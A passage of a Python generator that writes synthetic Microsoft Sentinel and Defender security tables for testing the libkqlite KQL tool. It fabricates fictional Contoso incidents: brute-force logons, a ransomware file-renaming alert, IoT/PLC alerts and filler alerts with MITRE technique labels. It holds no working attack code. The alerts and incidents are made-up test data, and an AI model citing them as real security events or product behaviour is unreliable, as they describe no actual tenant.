                 "RequestProtocol": "SMB", "RequestSourceIP": dev.ip, "RequestSourcePort": rng.randint(49152, 65535), "ShareName": "Finance"})
    add(w, "DeviceFileEvents", note)
    # alerts: Defender for Cloud (status syncs), Identity, Endpoint, a Sentinel rule
    e = Ents()
    e.host(dev)
    e.ip(BRUTE_IP)
    e.resource(vm_id(w, dev.short))
    asc = make_alert(w, rng, ASC, "Suspicious authentication activity", w.fix(te + 2 * MINUTE), "Medium", ents=e,
                     tactics=("CredentialAccess",), techniques=("T1110",), compromised=dev.short, resource_id=vm_id(w, dev.short),
                     alert_type="VM_LoginBruteForceValidUserFailed",
                     desc="Many failed authentication attempts from one IP address, followed by a successful logon of svc-backup.",
                     ext={"resourceType": "Virtual Machine", "Compromised Host": dev.short, "Source IP": BRUTE_IP,
                          "Failed attempts": "36", "Successful logons": "1", "OriginalAlertType": "VM_LoginBruteForceValidUserFailed"},
                     remediation=["Block the source IP at the network security group.", "Enable just-in-time VM access."])
    w.asc_sync.append(asc)
    e = Ents()
    e.account(w.svc_backup)
    e.ip(BRUTE_IP)
    e.host(dev)
    idn = make_alert(w, rng, AATP, "Suspected brute-force attack (Kerberos, NTLM)", w.fix(te + 9 * MINUTE), "Medium", ents=e,
                     tactics=("CredentialAccess",), techniques=("T1110",), subtechniques=("T1110.001", "T1110.003"),
                     alert_type="BruteForceSecurityAlert", compromised=w.svc_backup.upn,
                     desc="36 password guesses against 6 accounts from kali (203.0.113.45); svc-backup succeeded.",
                     ext={"ActivityCount": "37", "Category": "CredentialAccess"})
    e = Ents()
    h, a = e.host(dev), e.account(w.svc_backup)
    for p in procs[:2]:
        e.process(p, h, a)
    disc = make_alert(w, rng, MDATP, "Suspicious sequence of exploration activities", w.fix(tt + 3 * MINUTE), "Low", ents=e,
                      tactics=("Discovery",), techniques=("T1033", "T1069", "T1016"), subtechniques=("T1069.002",),
                      compromised=dev.name, desc="A process ran several commands often used for reconnaissance.")
    e = Ents()
    h = e.host(fs)
    e.account(w.svc_backup)
    e.ip(dev.ip)
    for folder, name in files:
        _, sha1, sha256 = hashes(folder + name)
        e.file(name + ".locked", "\\\\srv-file-02\\Finance\\" + folder[len("D:\\Shares\\Finance\\"):], sha1, sha256)
    big = make_alert(w, rng, MDATP, "Ransomware behavior detected in the file system", w.fix(tr + 4 * MINUTE), "High", ents=e,
                     tactics=("Impact",), techniques=("T1486",), compromised=fs.name,
                     desc=f"{len(files)} files on the Finance share were renamed to .locked over SMB by svc-backup from srv-rds-01.",
                     ext={"Note": "Entities holds all affected files: this row is larger than 30 KB."})
    w.big_alert = big
    make_incident(w, rng, "Microsoft 365 Defender", [idn, disc, big],
                  "Multi-stage incident involving Initial access & Impact on multiple endpoints",
                  steps=("New", "Active", "Active", "Closed"), comment="svc-backup disabled; share restored from backup.",
                  labels=("Ransomware",), tasks=("Disable svc-backup", "Restore share", "Block 203.0.113.45"))
    e = Ents()
    e.account(w.svc_backup)
    e.ip(BRUTE_IP)
    e.host(dev)
    si = make_alert(w, rng, ASI, "Multiple failed logons followed by a success", w.fix(te + 47 * MINUTE), "Medium", ents=e,
                    tactics=("CredentialAccess",), techniques=("T1110",), compromised=dev.name,
                    desc="An account logged on after many failures from the same IP address.",
                    ext={"Analytic Rule Name": "Brute force: failures then success", "Query Period": "1.00:00:00",
                         "Query Frequency": "01:00:00", "Trigger Operator": "GreaterThan", "Trigger Threshold": "0",
                         "Search Query Results Overall Count": "1", "Data Sources": jtext(["DeviceLogonEvents"])})
    make_incident(w, rng, "Azure Sentinel", [si], rule_ids=[w.rule_bf], labels=("Brute force",))


def scen_ssh_brute_force(w: World, rng: Rng) -> None:
    dev = w.dev["web-01"]
    t = w.fix(jitter(rng, day_floor(w.now - 10 * DAY) + 4 * HOUR + 41 * MINUTE))
    w.ssh_t = t
    brute_force(w, rng, dev, t, BRUTE_IP2, ["root", "admin", "ubuntu", "oracle", "test"], 20, True)
    e = Ents()
    e.host(dev)
    e.ip(BRUTE_IP2)
    e.resource(vm_id(w, dev.short))
    a = make_alert(w, rng, ASC, "Failed SSH brute force attack", w.fix(t + 9 * MINUTE), "Low", ents=e,
                   tactics=("PreAttack",), compromised=dev.short, resource_id=vm_id(w, dev.short),
                   alert_type="VM_SshBruteForceFailed", desc="20 failed SSH logons from 198.51.100.99; none succeeded.",
                   ext={"resourceType": "Virtual Machine", "Compromised Host": dev.short, "Attacker source IP": BRUTE_IP2,
                        "Number of failed authentication attempts to host": "20", "OriginalAlertType": "VM_SshBruteForceFailed"})
    w.asc_sync.append(a)


def scen_connectors(w: World, rng: Rng) -> None:
    """The first alerts after each connector is connected (IoT ~15 min, Identity ~24 h)."""
    e = Ents()
    d = iot_entity(w, rng, e, 0)
    t = w.iot_connected + 15 * MINUTE + rng.randint(0, 100) * TICKS + rng.randint(0, TICKS)
    w.iot_first = make_alert(w, rng, IOT, "Unauthorized Internet Connectivity Detected", t, "High", ents=e,
                             tactics=("InitialAccess",), compromised=d, desc="A PLC was seen communicating with an internet address.",
                             ext={"Protocol": "TCP", "Sensor": "sensor-plant-a", "Zone": "Plant A - Line 2", "Site": "Redmond plant",
                                  "Destination": "192.0.2.200:443"})
    e = Ents()
    e.account(w.users[15])
    e.host(w.dev["ws-eng-131"])
    t = w.idn_connected + 24 * HOUR + rng.randint(1, 9) * MINUTE + rng.randint(0, MINUTE)
    w.idn_first = make_alert(w, rng, AATP, "Account enumeration reconnaissance", t, "Medium", ents=e,
                             tactics=("Discovery",), techniques=("T1087",), subtechniques=("T1087.002",),
                             alert_type="AccountEnumerationSecurityAlert", compromised=w.users[15].upn,
                             desc="Kerberos account enumeration from ws-eng-131 against srv-dc-01.",
                             ext={"ActivityCount": "112", "Category": "Discovery"})
    make_incident(w, rng, "Microsoft 365 Defender", [w.idn_first], classification=("BenignPositive", "SuspiciousButExpected"),
                  comment="Authorized penetration test.")


IOT_DEVICES = [("plc-line2-01", "PLC", "Siemens", "SIMATIC S7-1500", "10.20.2.5", ["S7", "Profinet"]),
               ("hmi-line2", "HMI", "Rockwell Automation", "PanelView 5510", "10.20.2.20", ["EtherNet/IP"]),
               ("rtu-pump-03", "RTU", "Schneider Electric", "SCADAPack 470", "10.20.3.13", ["Modbus", "DNP3"]),
               ("eng-ws-ot-01", "Engineering Station", "Dell", "Precision 3660", "10.20.1.15", ["S7", "RDP"])]


def iot_entity(w: World, rng: Rng, e: Ents, i: int | None = None) -> str:
    name, typ, vendor, model, ip, protos = IOT_DEVICES[rng.randrange(len(IOT_DEVICES)) if i is None else i]
    ipe = e.ip(ip)
    e.add({"DeviceId": hashlib.md5(name.encode()).hexdigest(), "DeviceName": name, "DeviceType": typ, "Vendor": vendor,
           "Model": model, "Protocols": protos, "IpAddress": e.ref(ipe), "Zone": "Plant A - Line 2",
           "Site": "Redmond plant", "Sensor": "sensor-plant-a", "IsAuthorized": True, "Type": "iotdevice"})
    return name


def scen_inventory(w: World, rng: Rng) -> None:
    """DeviceInfo oddities: a re-imaged device merged into its new record, a discovered printer."""
    dev = w.dev["ws-hr-008"]
    old = Device()
    old.__dict__.update(dev.__dict__)
    old.id = rng.hexs(40)
    dev.merged_from = old.id
    w.merge_t = w.fix(jitter(rng, day_floor(w.now - 12 * DAY) + 16 * HOUR, 3000))
    row = info_row(w, rng, old, w.merge_t)
    row.update({"IsExcluded": True, "ExclusionReason": "Duplicate", "MergedToDeviceId": dev.id,
                "SensorHealthState": "Inactive", "LoggedOnUsers": [], "ReportId": row["ReportId"] - 5})
    add(w, "DeviceInfo", row)
    pid = rng.hexs(40)
    for k in range(2):
        t = w.fix(jitter(rng, day_floor(w.now - (11 - 6 * k) * DAY) + 3 * HOUR, 3000))
        add(w, "DeviceInfo", {
            "Timestamp": t, "TimeGenerated": t, "Type": "DeviceInfo", "TenantId": w.tenant, "SourceSystem": "Azure",
            "DeviceId": pid, "DeviceName": "prn-fl2-01", "MachineGroup": "", "ReportId": 41 + k, "AppGuardContainerId": "",
            "AadDeviceId": "", "DeviceObjectId": "", "AdditionalFields": {"DiscoverySources": ["DeviceDiscovery"], "FirstSeen": fmt_dt(w.start + 6 * HOUR)},
            "AssetValue": "Normal", "ClientVersion": "", "DeviceCategory": "IoT", "DeviceType": "Printer",
            "DeviceSubtype": "MultiFunctionPrinter", "ExclusionReason": "", "ExposureLevel": "Medium",
            "IsAzureADJoined": None, "IsExcluded": False, "IsInternetFacing": False, "JoinType": "",
            "LoggedOnUsers": [], "MergedDeviceIds": "", "MergedToDeviceId": "", "Model": "LaserJet Enterprise MFP M634",
            "Vendor": "HP", "OnboardingStatus": "Unsupported", "OSArchitecture": "", "OSBuild": None, "OSDistribution": "",
            "OSPlatform": "", "OSVersion": "", "OSVersionInfo": "", "PublicIP": "", "RegistryDeviceTag": "",
            "SensorHealthState": ""})


def scen_rdp_session(w: World, rng: Rng) -> None:
    """Both ends of an RDP session: LogonAttempted by mstsc.exe, LogonSuccess on the server."""
    src, dst, u = w.dev["ws-eng-103"], w.dev["srv-rds-01"], w.users[3]
    t = w.fix(jitter(rng, day_floor(w.now - 5 * DAY) + 9 * HOUR + 31 * MINUTE))
    ex = proc(w, rng, src, "explorer.exe", r"C:\WINDOWS\Explorer.EXE", u, t - 2 * HOUR, parent_name="userinit.exe")
    ms = proc(w, rng, src, "mstsc.exe", '"C:\\WINDOWS\\system32\\mstsc.exe" /v:srv-rds-01.contoso.local', u, t - 9 * TICKS, ex)
    add(w, "DeviceLogonEvents", logon_row(w, rng, src, t, u, "LogonAttempted", "RemoteInteractive", "Negotiate",
                                          dst.ip, dst.name, ms))
    add(w, "DeviceLogonEvents", logon_row(w, rng, dst, t + 2 * TICKS, u, "LogonSuccess", "RemoteInteractive", "Kerberos",
                                          src.ip, "WS-ENG-103"))


SCENARIOS = [scen_rdp_session, scen_inventory, scen_connectors, scen_admin_dump, scen_phish_a, scen_ssh_brute_force, scen_macro_malware,
             scen_certutil_lsass, scen_phish_b, scen_rdp_brute_force, scen_excel_today]


# ---------------------------------------------------------------------------
# filler alerts and their incidents

MDATP_T = [  # name, severity, tactics, techniques, subtechniques
    ("Suspicious PowerShell command line", "Medium", ("Execution",), ("T1059",), ("T1059.001",)),
    ("'Presenoker' unwanted software was detected", "Low", ("Unknown",), (), ()),
    ("Suspicious LDAP query", "Low", ("Discovery",), ("T1087", "T1069"), ("T1087.002",)),
    ("Suspicious Task Scheduler activity", "Low", ("Persistence", "Execution"), ("T1053",), ("T1053.005",)),
    ("Anomalous account lookups", "Low", ("Discovery",), ("T1087",), ()),
    ("An uncommon file was created and added to a Run Key", "Medium", ("Persistence",), ("T1547",), ("T1547.001",)),
    ("Suspicious process injection observed", "Medium", ("DefenseEvasion", "PrivilegeEscalation"), ("T1055",), ()),
    ("Possible attempt to access Primary Refresh Token (PRT)", "Medium", ("CredentialAccess",), ("T1528",), ()),
]
OATP_T = [
    ("Email reported by user as malware or phish", "Informational", ("InitialAccess",), ("T1566",), ()),
    ("Email messages from a campaign removed after delivery", "Informational", ("InitialAccess",), ("T1566",), ()),
    ("Email messages containing malicious URL removed after delivery", "Informational", ("InitialAccess",), ("T1566",), ()),
    ("Suspicious email sending patterns detected", "Medium", ("Exfiltration",), (), ()),
]
AATP_T = [
    ("Network-mapping reconnaissance (DNS)", "Medium", ("Discovery",), ("T1046",), (), "DnsReconnaissanceSecurityAlert"),
    ("User and IP address reconnaissance (SMB)", "Medium", ("Discovery",), ("T1049",), (), "EnumerateSessionsSecurityAlert"),
    ("Security principal reconnaissance (LDAP)", "Medium", ("Discovery",), ("T1087",), ("T1087.002",), "LdapSearchReconnaissanceSecurityAlert"),
    ("Suspicious additions to sensitive groups", "Medium", ("Persistence", "CredentialAccess"), ("T1098",), (), "AbnormalSensitiveGroupMembershipChangeSecurityAlert"),
    ("Account enumeration reconnaissance", "Medium", ("Discovery",), ("T1087",), ("T1087.002",), "AccountEnumerationSecurityAlert"),
]
ASC_T = [  # name, severity, tactics, alert type, resource
    ("Failed SSH brute force attack", "Low", ("PreAttack",), "VM_SshBruteForceFailed", "web-01"),
    ("Traffic detected from IP addresses recommended for blocking", "Low", ("PreAttack",), "Network_TrafficFromUnrecommendedIP", "srv-rds-01"),
    ("Azure Resource Manager operation from suspicious IP address", "Medium", ("Execution",), "ARM_OperationFromSuspiciousIP", None),
    ("Access from a Tor exit node to a storage account", "High", ("PreAttack",), "Storage.Blob_TorAnomaly", "stcontosodata01"),
    ("Potential SQL Brute Force attempt", "High", ("PreAttack",), "SQL.VM_BruteForce", "srv-sql-03"),
    ("Suspicious process executed", "High", ("Execution",), "VM_SuspectProcess", "srv-rds-01"),
]
IOT_T = [
    ("New Asset Detected", "Informational", ("Discovery",)),
    ("PLC Stop Command Was Sent", "High", ("InhibitResponseFunction",)),
    ("Unauthorized PLC Programming", "High", ("ImpairProcessControl",)),
    ("Excessive Login Attempts", "Medium", ("LateralMovement",)),
    ("Illegal MODBUS Operation (Function Code Zero)", "Medium", ("ImpairProcessControl",)),
    ("Firmware Change Detected", "Medium", ("Persistence", "InhibitResponseFunction")),
]
ASI_T = [
    ("Rare RDP Connections", "Medium", ("LateralMovement",), ("T1021",), "DeviceNetworkEvents"),
    ("Mass download by a single user", "Medium", ("Exfiltration",), ("T1030",), "DeviceFileEvents"),
    ("New user created and added to the built-in administrators group", "Medium", ("Persistence",), ("T1098",), "DeviceEvents"),
    ("Phishing link click observed in Network Traffic", "Medium", ("InitialAccess",), ("T1566",), "EmailUrlInfo"),
]
CLASSIFICATIONS = [(5, ("TruePositive", "SuspiciousActivity")), (3, ("BenignPositive", "SuspiciousButExpected")),
                   (2, ("FalsePositive", "IncorrectAlertLogic")), (1, ("FalsePositive", "InaccurateData")),
                   (1, ("Undetermined", ""))]


def random_steps(rng: Rng):
    return rng.wpick([(2, ("New",)), (2, ("New", "Active")), (5, ("New", "Active", "Closed")), (1, ("New", "Closed"))])


def sync_lifecycle(w: World, rng: Rng, a: dict, with_incident: bool) -> None:
    """Defender for Cloud status sync: each change is a new SecurityAlert row."""
    if with_incident:
        rows = make_incident(w, rng, "Azure Sentinel", [a], steps=("New", "Active", "Closed"), rule_ids=[w.rule_msc],
                             classification=rng.wpick(CLASSIFICATIONS))
        for r in rows[1:]:
            t = w.fix(r["TimeGenerated"] + rng.randint(40, 180) * TICKS + rng.randint(0, TICKS))
            if t < w.now:
                update_alert(w, rng, a, t, "InProgress" if r["Status"] == "Active" else "Resolved")
        return
    t = a["TimeGenerated"]
    for status in rng.wpick([(3, ("Resolved",)), (1, ("InProgress", "Resolved")), (1, ("Dismissed",))]):
        t = w.fix(t + rng.randint(30, 600) * MINUTE + rng.randint(0, MINUTE))
        if t >= w.now:
            break
        update_alert(w, rng, a, t, status)


def fill_alert(w: World, rng: Rng, product: str) -> None:
    lo = {IOT: w.iot_connected + 20 * MINUTE, AATP: w.idn_connected + 25 * HOUR}.get(product)
    t = w.rand_time(rng, lo=lo, office=False)
    e = Ents()
    if product == MDATP:
        name, sev, tac, tech, sub = rng.choice(MDATP_T)
        dev = rng.choice([d for d in w.devices if d.windows])
        u = w.user_of(dev, rng)
        e.host(dev)
        e.account(u)
        a = make_alert(w, rng, product, name, t, sev, ents=e, tactics=tac, techniques=tech, subtechniques=sub, compromised=dev.name,
                       alert_type="WindowsDefenderAv" if "unwanted" in name else "")
    elif product == OATP:
        name, sev, tac, tech, sub = rng.choice(OATP_T)
        for u in rng.sample(w.users, rng.randint(1, 3)):
            e.mailbox(u)
        a = make_alert(w, rng, product, name, t, sev, ents=e, tactics=tac, techniques=tech, subtechniques=sub,
                       ext={"Category": "ThreatManagement"})
    elif product == AATP:
        name, sev, tac, tech, sub, typ = rng.choice(AATP_T)
        u = rng.choice(w.users)
        e.account(u)
        e.host(w.dev["srv-dc-01"])
        a = make_alert(w, rng, product, name, t, sev, ents=e, tactics=tac, techniques=tech, subtechniques=sub,
                       alert_type=typ, compromised=u.upn, ext={"ActivityCount": str(rng.randint(2, 300))})
    elif product == ASC:
        name, sev, tac, typ, res = rng.choice(ASC_T)
        if res is None:
            rid = f"/subscriptions/{w.asc_subscription}"
        elif res.startswith("st"):
            rid = f"/subscriptions/{w.asc_subscription}/resourceGroups/rg-data/providers/Microsoft.Storage/storageAccounts/{res}"
        else:
            rid = vm_id(w, res)
        e.resource(rid)
        e.ip(f"192.0.2.{rng.randint(2, 250)}")
        conf = rng.choice([("", None), ("High", 0.9), ("Medium", 0.30000000000000004), ("Low", 0.125)])
        a = make_alert(w, rng, product, name, t, sev, ents=e, tactics=tac, compromised=res or w.asc_subscription,
                       resource_id=rid, alert_type=typ, confidence=conf,
                       ext={"resourceType": "Virtual Machine" if "virtualMachines" in rid else "Subscription",
                            "OriginalAlertType": typ, "effectiveAzureResourceId": rid},
                       remediation=["Review the activity.", "Escalate to the resource owner if it was not expected."])
        sync_lifecycle(w, rng, a, rng.chance(0.4))
        return
    elif product == IOT:
        name, sev, tac = rng.choice(IOT_T)
        d = iot_entity(w, rng, e)
        a = make_alert(w, rng, product, name, t, sev, ents=e, tactics=tac, compromised=d,
                       ext={"Protocol": rng.choice(["S7", "Modbus", "EtherNet/IP"]), "Sensor": "sensor-plant-a",
                            "Zone": "Plant A - Line 2", "Site": "Redmond plant"})
        if rng.chance(0.3):
            make_incident(w, rng, "Azure Sentinel", [a], steps=random_steps(rng), rule_ids=[w.rule_msc],
                          classification=rng.wpick(CLASSIFICATIONS))
        return
    else:
        name, sev, tac, tech, src = rng.choice(ASI_T)
        dev = rng.choice(w.devices)
        e.host(dev)
        a = make_alert(w, rng, product, name, t, sev, ents=e, tactics=tac, techniques=tech, compromised=dev.name,
                       ext={"Analytic Rule Name": name, "Query Period": "1.00:00:00", "Query Frequency": "01:00:00",
                            "Trigger Operator": "GreaterThan", "Trigger Threshold": "0",
                            "Search Query Results Overall Count": str(rng.randint(1, 40)), "Data Sources": jtext([src])})
        make_incident(w, rng, "Azure Sentinel", [a], steps=random_steps(rng), rule_ids=[w.rule_asi],
                      classification=rng.wpick(CLASSIFICATIONS))
        return
    make_incident(w, rng, "Microsoft 365 Defender", [a], steps=random_steps(rng), classification=rng.wpick(CLASSIFICATIONS))


# ---------------------------------------------------------------------------
# generation

FILLERS = {
    "DeviceInfo": fill_info, "DeviceNetworkInfo": fill_netinfo, "DeviceProcessEvents": fill_process,
    "DeviceNetworkEvents": fill_network, "DeviceFileEvents": fill_file, "DeviceRegistryEvents": fill_registry,
    "DeviceLogonEvents": fill_logon, "DeviceImageLoadEvents": fill_imageload, "DeviceEvents": fill_devevent,
    "DeviceFileCertificateInfo": fill_cert,
}
EMAIL_TABLES = ["EmailEvents", "EmailUrlInfo", "EmailAttachmentInfo", "EmailPostDeliveryEvents"]


def event_time(row: dict) -> int:
    t = row.get("Timestamp")
    return row["TimeGenerated"] if t is None else t


def generate(seed: int, now: int, rows_per_table: int | None) -> World:
    w = World(seed, now)
    r = w.rng
    w.spam_policy = r.guid()
    w.appguard = r.guid()
    w.merge_t = w.start
    w.rule_ti, w.rule_bf, w.rule_msc, w.rule_asi = r.guid(), r.guid(), r.guid(), r.guid()
    w.iot_connected = w.fix(minute_floor(now - 12 * DAY - 2 * HOUR - 30 * MINUTE))
    w.idn_connected = w.fix(minute_floor(now - 10 * DAY + 2 * HOUR))
    w.asc_sync = []
    w.filler_messages = []
    w.mail_rng = Rng(f"{seed}:mail")
    for scen in SCENARIOS:
        scen(w, Rng(f"{seed}:{scen.__name__}"))
    rng = Rng(f"{seed}:asc-sync")
    for a in w.asc_sync:
        sync_lifecycle(w, rng, a, True)
    rng = Rng(f"{seed}:alerts")
    n = rows_per_table
    if n is None:
        for product, k in ALERT_QUOTA.items():
            for _ in range(k):
                fill_alert(w, rng, product)
    else:
        products = list(PRODUCTS)
        i = 0
        while len(w.rows["SecurityAlert"]) < n:
            fill_alert(w, rng, products[i % len(products)])
            i += 1
        rng = Rng(f"{seed}:incidents")
        m365 = [a for a in w.rows["SecurityAlert"] if a["ProductName"] in (MDATP, OATP, AATP)]
        while len(w.rows["SecurityIncident"]) < n:
            make_incident(w, rng, "Microsoft 365 Defender", rng.sample(m365, rng.randint(1, 2)),
                          steps=random_steps(rng), classification=rng.wpick(CLASSIFICATIONS))
    for table, fill in FILLERS.items():
        rng = Rng(f"{seed}:{table}")
        target = n if n is not None else BUNDLE_ROWS[table]
        while len(w.rows[table]) < target:
            w.rows[table].extend(fill(w, rng))
    # email: every table walks the same stream of filler messages
    if n is None:
        i = 0
        while len(w.rows["EmailEvents"]) < BUNDLE_ROWS["EmailEvents"]:
            for table, rows in filler_message(w, i)[1].items():
                w.rows[table].extend(rows)
            i += 1
    else:
        for table in EMAIL_TABLES:
            i = 0
            while len(w.rows[table]) < n:
                w.rows[table].extend(filler_message(w, i)[1][table])
                i += 1
    if n is not None:
        for table in TABLES:
            del w.rows[table][n:]
    # Application Guard: Edge on the executive laptop runs in a container
    for table in ("DeviceProcessEvents", "DeviceNetworkEvents", "DeviceEvents", "DeviceFileEvents", "DeviceImageLoadEvents"):
        for row in w.rows[table]:
            if row["DeviceName"] == "lt-exec-001.contoso.local" and row.get("InitiatingProcessFileName") == "msedge.exe":
                row["AppGuardContainerId"] = w.appguard
    for table in TABLES:
        rows = w.rows[table]
        order = sorted(range(len(rows)), key=lambda k: (event_time(rows[k]), k))
        w.rows[table] = [rows[k] for k in order]
        for row in w.rows[table]:
            t = event_time(row)
            if not (w.start <= t < w.now) or w.in_gap(t):
                raise AssertionError(f"{table}: event time {fmt_dt(t)} outside the window or in the empty day")
    return w


# ---------------------------------------------------------------------------
# output: schemas, encodings, files

DOTNET = {"bool": "Boolean", "int": "Int32", "long": "Int64", "real": "Double", "decimal": "Decimal",
          "string": "String", "datetime": "DateTime", "timespan": "TimeSpan", "guid": "Guid", "dynamic": "Object"}
EXT = {"json": ".json", "jsonl": ".jsonl", "api-json": ".api.json", "defender-json": ".defender.json", "csv": ".csv"}
SENTINEL_ONLY = ("TimeGenerated", "TenantId", "SourceSystem", "Type")


def load_schemas(d: Path) -> dict[str, list[tuple[str, str]]]:
    out = {}
    for t in TABLES:
        doc = json.loads((d / f"{t}.json").read_text(encoding="utf-8"))
        out[t] = [(c["name"], c["type"]) for c in doc["columns"]]
    return out


def columns_for(cols, style: str):
    if style == "defender":   # Defender advanced hunting: Timestamp, no Log Analytics columns
        return [c for c in cols if c[0] not in SENTINEL_ONLY]
    if style == "sentinel":   # a Sentinel export that kept TimeGenerated only
        return [c for c in cols if c[0] != "Timestamp"]
    return list(cols)


def enc(v, typ: str, dyn_text: bool):
    """One value as JSON (CLI.md's value-encoding table)."""
    if v is None:
        return "" if typ == "string" else None
    if typ == "datetime":
        return fmt_dt(v)
    if typ == "dynamic":
        return jtext(v) if dyn_text else v
    if typ == "real":
        v = float(v)
        if v != v:
            return "NaN"
        if v in (float("inf"), float("-inf")):
            return "Infinity" if v > 0 else "-Infinity"
        return v
    if typ in ("int", "long"):
        return int(v)
    if typ == "bool":
        return bool(v)
    return str(v)


def enc_csv(v, typ: str) -> str:
    if v is None:
        return ""
    if typ == "datetime":
        return fmt_blade(v)
    if typ == "dynamic":
        return jtext(v)
    if typ == "bool":
        return "true" if v else "false"
    if typ == "real":
        return repr(float(v))
    return str(v)


def dumps(v) -> str:
    return json.dumps(v, ensure_ascii=False, separators=(",", ":"))


def render(fmt: str, table: str, cols, rows: list[dict]) -> bytes:
    if fmt == "csv":
        buf = io.StringIO()
        wr = csv.writer(buf, lineterminator="\r\n")
        wr.writerow([f"{c} [UTC]" if t == "datetime" else c for c, t in cols])
        for r in rows:
            wr.writerow([enc_csv(r.get(c), t) for c, t in cols])
        return ("\ufeff" + buf.getvalue()).encode("utf-8")
    dyn_text = fmt in ("api-json", "defender-json")
    objs = [{c: enc(r.get(c), t, dyn_text) for c, t in cols} for r in rows]
    if fmt in ("jsonl", "ndjson"):
        text = "".join(dumps(o) + "\n" for o in objs)
    elif fmt == "json":
        text = "[\n" + ",\n".join(dumps(o) for o in objs) + "\n]\n" if objs else "[]\n"
    elif fmt == "api-json":
        head = dumps([{"name": c, "type": t} for c, t in cols])
        body = ",\n".join(dumps(list(o.values())) for o in objs)
        text = '{"tables":[{"name":"PrimaryResult","columns":' + head + ',"rows":[\n' + body + "\n]}]}\n"
    elif fmt == "defender-json":
        stats = {"ExecutionTime": 0.6875, "resource_usage": {"cache": {"memory": {"hits": 4, "misses": 0, "total": 4}}},
                 "dataset_statistics": [{"table_row_count": len(objs), "table_size": 2048 * len(objs)}]}
        head = dumps([{"Name": c, "Type": DOTNET[t]} for c, t in cols])
        body = ",\n".join(dumps(o) for o in objs)
        text = '{"Stats":' + dumps(stats) + ',"Schema":' + head + ',"Results":[\n' + body + "\n]}\n"
    else:
        raise ValueError(fmt)
    return text.encode("utf-8")


def plan(fmt: str) -> list[tuple[str, str, str, str, str]]:
    """(file, table, format, column style, which rows)"""
    if fmt != "mixed":
        return [(t + EXT[fmt], t, fmt, "full", "all") for t in TABLES]
    special = {
        "SecurityAlert": [("SecurityAlert.api.json", "api-json", "full", "all")],
        "SecurityIncident": [("SecurityIncident.json", "json", "full", "all")],
        "DeviceProcessEvents": [("DeviceProcessEvents.sentinel.jsonl", "jsonl", "sentinel", "before"),
                                ("DeviceProcessEvents.jsonl", "jsonl", "defender", "after")],
        "DeviceEvents": [("DeviceEvents.ndjson", "ndjson", "full", "all")],
        "DeviceNetworkEvents": [("DeviceNetworkEvents.json", "json", "full", "before"),
                                ("DeviceNetworkEvents.defender.json", "defender-json", "defender", "after")],
        "EmailEvents": [("EmailEvents.csv", "csv", "full", "all")],
    }
    out = []
    for t in TABLES:
        for f, fm, style, part in special.get(t, [(t + ".json", "json", "full", "all")]):
            out.append((f, t, fm, style, part))
    return out


def write_all(w: World, out: Path, fmt: str, schemas) -> list[tuple[str, str, int, str, str, int]]:
    out.mkdir(parents=True, exist_ok=True)
    written = []
    for fname, table, fm, style, part in plan(fmt):
        rows = w.rows[table]
        if part == "before":
            rows = [r for r in rows if event_time(r) < w.gap[0]]
        elif part == "after":
            rows = [r for r in rows if event_time(r) >= w.gap[1]]
        data = render(fm, table, columns_for(schemas[table], style), rows)
        (out / fname).write_bytes(data)
        written.append((fname, table, len(rows), fm, style, len(data)))
    (out / "NOW").write_text(fmt_dt(w.now) + "\n", encoding="utf-8")
    manifest = "file\ttable\trows\tformat\n" + "".join(
        f"{f}\t{t}\t{n}\t{fm}\n" for f, t, n, fm, _, _ in sorted(written))
    (out / "MANIFEST.tsv").write_text(manifest, encoding="utf-8")
    return written


# ---------------------------------------------------------------------------
# README.md of the output

STYLE_TEXT = {"full": "Timestamp and TimeGenerated (equal)", "defender": "Timestamp only (Defender export)",
              "sentinel": "TimeGenerated only (Sentinel export)"}
FORMAT_TEXT = {
    "api-json": "Log Analytics query API response: typed columns, rows as arrays, dynamic as JSON text",
    "json": "JSON array of objects, one object per line",
    "jsonl": "newline-delimited JSON, one object per line",
    "ndjson": "newline-delimited JSON, one object per line",
    "defender-json": 'Defender advanced hunting API response: `{"Stats","Schema":[{"Name","Type"}],"Results":[...]}`, .NET type names, dynamic as JSON text',
    "csv": "Logs blade \"Export to CSV\": UTF-8 BOM, `Name [UTC]` headers for datetimes, `M/D/YYYY, h:mm:ss.fff AM` datetimes (ms precision), RFC 4180 quoting, CRLF",
}


def readme(w: World, written, fmt: str, seed: int, rows_per_table: int | None, now_arg: str | None, schemas) -> str:
    alerts, incs = w.rows["SecurityAlert"], w.rows["SecurityIncident"]
    by_prod = {}
    for a in alerts:
        by_prod.setdefault(a["ProductName"], set()).add(a["SystemAlertId"])
    inc_by = {}
    for r in incs:
        inc_by.setdefault(r["ProviderName"], set()).add(r["IncidentNumber"])
    changed = {}
    for a in alerts:
        if a["ProductName"] == ASC:
            changed.setdefault(a["SystemAlertId"], []).append(a["Status"])
    changed = {k: v for k, v in changed.items() if len(v) > 1}
    big = w.big_alert
    big_size = len(dumps([enc(big.get(c), t, True) for c, t in schemas["SecurityAlert"]]))
    iot = [a for a in alerts if a["ProductName"] == IOT]
    idn = [a for a in alerts if a["ProductName"] == AATP]
    args = []
    if fmt != "mixed":
        args.append(f"--format {fmt}")
    if seed != DEFAULT_SEED:
        args.append(f"--seed {seed}")
    if rows_per_table is not None:
        args.append(f"--rows-per-table {rows_per_table}")
    if now_arg is not None and parse_iso(now_arg) != parse_iso(DEFAULT_NOW):
        args.append(f"--now {fmt_dt(w.now)}")
    cmd = "python3 tools/gen_sample.py --out examples/data" + "".join(" " + a for a in args)
    L = []
    L += ["# libkqlite sample data", "",
          "Synthetic Microsoft Sentinel / Microsoft 365 Defender exports for trying and testing libkqlite",
          "offline: the 16 tables of `data/schemas/` (SecurityAlert, SecurityIncident, the 10 Device* and",
          "4 Email* advanced-hunting tables), every column present with a value of its KQL type.",
          "Nothing here comes from a real tenant: people, hosts and the tenant are the fictional Contoso;",
          "\"malicious\" IPs are documentation addresses (RFC 5737) and \"malicious\" domains are Contoso",
          "look-alikes.", "",
          "**Generated file, do not edit by hand.** It is the exact output of", "",
          f"    {cmd}", "",
          "(Python 3.11 standard library only, deterministic: the same arguments give byte-identical",
          "files; `tests/sample_test.sh` checks that this directory is current.) Change",
          "`tools/gen_sample.py` and regenerate instead.", "",
          "## Reference time", "",
          f"`NOW` holds the reference time, **{fmt_dt(w.now)}**. All rows fall in the 14 days before it,",
          f"[{fmt_dt(w.start)}, {fmt_dt(w.now)}). Pin the clock to it so `ago()` and the connector charts",
          "give the same answer every run:", "",
          "    kqlite --now \"$(cat examples/data/NOW)\" examples/data -f examples/incident_ingestion_chart.kql", "",
          "## The empty day", "",
          f"No row of any table has its event time (Timestamp, or TimeGenerated) in",
